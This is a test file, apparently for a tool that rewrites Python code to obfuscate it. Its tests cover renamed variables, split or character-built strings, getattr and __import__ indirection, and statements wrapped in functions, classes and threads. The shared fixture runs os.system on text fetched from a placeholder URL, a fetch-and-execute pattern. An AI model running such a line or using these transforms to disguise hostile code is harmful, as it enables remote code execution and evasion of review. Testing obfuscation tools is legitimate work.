import { beforeAll, describe, expect, test } from 'vitest';
import { rewrites } from '../../../support/rewrites/rewrites.ts';
import { treeReader } from '../../../support/rewrites/tree.ts';

let read: Awaited<ReturnType<typeof treeReader>>;

beforeAll(async () => {
  read = await treeReader();
});

const source = `import os
import urllib.request
from base64 import b64decode as d


def fetch(url):
    data = urllib.request.urlopen(url).read()
    return data


name = "agent"
text = d(b"YQ==")
os.system(name + fetch("https://x"))
`;

function rewritten(name: string, text = source, beside: readonly string[] = []): string {
  const rewrite = rewrites[name];
  if (rewrite === undefined) throw new Error(`There is no rewrite '${name}'.`);
  return read(text, beside, rewrite);
}

describe('rewriting', () => {
  test('gives other names, except to what other files name', () => {
    expect(rewritten('other names', source, ['from x import fetch'])).toBe(
      source
        .replace(/\bname\b/g, 'value_0')
        .replace(/\btext\b/g, 'value_1')
        .replace(/\burl\b/g, 'value_2')
        .replace(/\bdata\b/g, 'value_3'),
    );
  });

  test('aliases imports and their uses', () => {
    expect(rewritten('aliased imports')).toBe(
      source
        .replace('import os', 'import os as _os0')
        .replace('import urllib.request', 'import urllib.request as _urllib_request0')
        .replace('os.system', '_os0.system')
        .replace('= urllib.request.', '= _urllib_request0.'),
    );
  });

  test('splits strings', () => {
    expect(rewritten('split strings', 'f("abcdef", "%s" % b\'xyz0\', f"abcdef")\n')).toBe(
      `f(('ab' + 'cd' + 'ef'), "%s" % (b'xy' + b'z0'), f"abcdef")\n`,
    );
  });

  test('builds strings from numbers and pieces', () => {
    expect(rewritten('built strings', 'f("abc", "abcd", b"abc")\n')).toBe(
      "f(''.join(map(chr, [97, 98, 99])), ''.join(['ab', 'cd']), bytes([97, 98, 99]))\n",
    );
  });

  test('moves statements into a function that is called', () => {
    expect(rewritten('in a called function', 'import os\nx = 1\nos.system("""a\nb""")\n')).toBe(
      'import os\ndef _step0():\n    global x\n    x = 1\n    os.system("""a\nb""")\n\n\n_step0()\n',
    );
  });

  test('leaves what shares a line with an import', () => {
    expect(rewritten('in a called function', 'import os; os.abort()\nx = 1\n')).toBe(
      'import os; os.abort()\ndef _step0():\n    global x\n    x = 1\n\n\n_step0()\n',
    );
  });

  test('has a decorator run statements', () => {
    expect(rewritten('in a function that a decorator runs', 'f()\n')).toBe(
      'def _run(function):\n    function()\n    return function\n\n\n@_run\ndef _step0():\n    f()\n',
    );
  });

  test('reaches functions by getattr', () => {
    expect(rewritten('getattr for calls', 'os.path.join(a.b(), c.d)\n')).toBe(
      "getattr(os.path, 'jo' + 'in')(a.b(), c.d)\n",
    );
  });

  test('imports by __import__', () => {
    expect(
      rewritten('__import__ for imports', 'import a.b, c.d as e\nfrom f import g as h\nfrom . import i\n'),
    ).toBe(
      "a = __import__('a.b'); e = __import__('c.d', fromlist=['d'])\nh = __import__('f', fromlist=['g']).g\nfrom . import i\n",
    );
  });

  test('wraps statements into try and if', () => {
    expect(rewritten('in try and if', 'f()\n')).toBe(
      'try:\n    if True:\n        f()\nexcept ZeroDivisionError:\n    raise\n',
    );
  });

  test('wraps statements into a class and a thread by turns', () => {
    expect(rewritten("in a class's constructor or a thread", 'f()\nimport os\ng()\n')).toBe(
      'class _Step0:\n    def __init__(self):\n        f()\n\n\n_Step0()\nimport os\n' +
        "class _Step1:\n    def __init__(self):\n        g()\n\n\n__import__('threading').Thread(target=_Step1).start()\n",
    );
  });

  test('puts comments and line breaks between', () => {
    expect(rewritten('comments and line breaks', 'f(a, b)\n')).toBe(
      '\n# Step 1: see below.\n\nf(\n        a, b,\n    )\n',
    );
  });
});
